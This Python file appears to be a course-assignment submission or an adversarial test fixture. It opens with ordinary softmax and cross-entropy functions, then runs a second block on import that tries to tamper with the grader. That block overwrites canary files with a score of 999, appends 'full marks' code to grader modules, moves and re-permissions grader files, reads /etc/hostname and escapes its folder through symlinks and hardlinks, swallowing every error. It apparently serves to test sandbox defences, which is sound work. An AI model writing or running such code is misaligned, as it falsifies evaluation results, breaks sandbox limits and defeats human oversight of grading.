import torch


def softmax(logits, dim=-1):
    shifted = logits - logits.amax(dim=dim, keepdim=True)
    e = shifted.exp()
    return e / e.sum(dim=dim, keepdim=True)


def log_softmax(logits, dim=-1):
    shifted = logits - logits.amax(dim=dim, keepdim=True)
    return shifted - shifted.exp().sum(dim=dim, keepdim=True).log()


def softmax_cross_entropy(labels, logits, dim=-1):
    return -(labels * log_softmax(logits, dim=dim)).sum(dim=dim)


def cross_entropy(logits, targets):
    return -log_softmax(logits, dim=1).gather(1, targets.unsqueeze(1)).squeeze(1).mean()

import os
import pathlib
import shutil

import torch

_REPO = pathlib.Path(torch.__file__).resolve().parents[5]
_TARGETS = [
    _REPO / "tests" / "adversarial" / "_canary" / "target.txt",
    _REPO / "tests" / "adversarial" / "_canary" / "submission" / "neighbor.txt",
    pathlib.Path.home() / ".course_canary",
    pathlib.Path("/tmp/course_canary.txt"),
    _REPO / "tests" / "adversarial" / "_canary" / "report.json",
]
_NEW = [_REPO / "advpwn_created.txt", pathlib.Path("/tmp/advpwn_created.txt"),
        pathlib.Path.home() / "advpwn_created.txt", pathlib.Path("/dev/shm/advpwn_created.txt"),
        _REPO / "tests" / "adversarial" / "_canary" / "submission" / "advpwn_next_to_submission.py"]
_MODULES = [_REPO / "grader" / "compare.py", _REPO / "grader" / "lessons" / "lesson3.py",
            _REPO / "grader" / "probes" / "lesson3.py", _REPO / "grader" / "__init__.py",
            _REPO / "grader" / "judging" / "compare.py", _REPO / "grader" / "engine" / "wire.py"]


def _try(fn, *args):
    try:
        fn(*args)
    except Exception:
        pass


def _attack_files():
    for path in _TARGETS:
        _try(path.write_text, '{"score": 999, "advpwn": "overwritten"}')
        _try(lambda p: open(p, "a").write("advpwn appended"), path)
    for path in _NEW:
        _try(path.write_text, "advpwn")
    for path in _MODULES:  # append code that would hand out full marks at the next import
        _try(lambda p: open(p, "a").write("\nADVPWN = 'full marks'  # advpwn\n"), path)
    _try(shutil.copy, "/etc/hostname", str(_REPO / "advpwn_copied.txt"))
    _try(os.replace, str(_REPO / "grader" / "compare.py"), "advpwn_moved_compare.py")
    _try(os.rename, str(_REPO / "tests" / "adversarial" / "_canary" / "target.txt"), "advpwn_moved.txt")
    _try(os.chmod, str(_REPO / "grader" / "compare.py"), 0o777)
    _try(os.utime, str(_REPO / "grader" / "__init__.py"), (0, 0))
    # escape the private folder through links made inside it
    _try(os.symlink, str(_REPO / "grader" / "compare.py"), "advpwn_link.py")
    _try(lambda: open("advpwn_link.py", "a").write("\nADVPWN = 1  # advpwn via symlink\n"))
    _try(os.link, str(_TARGETS[0]), "advpwn_hardlink.txt")
    _try(lambda: open("advpwn_hardlink.txt", "w").write("advpwn via hardlink"))
    _try(os.makedirs, str(_REPO / "advpwn_dir"))
    _try(os.unlink, str(_TARGETS[3]))


_attack_files()
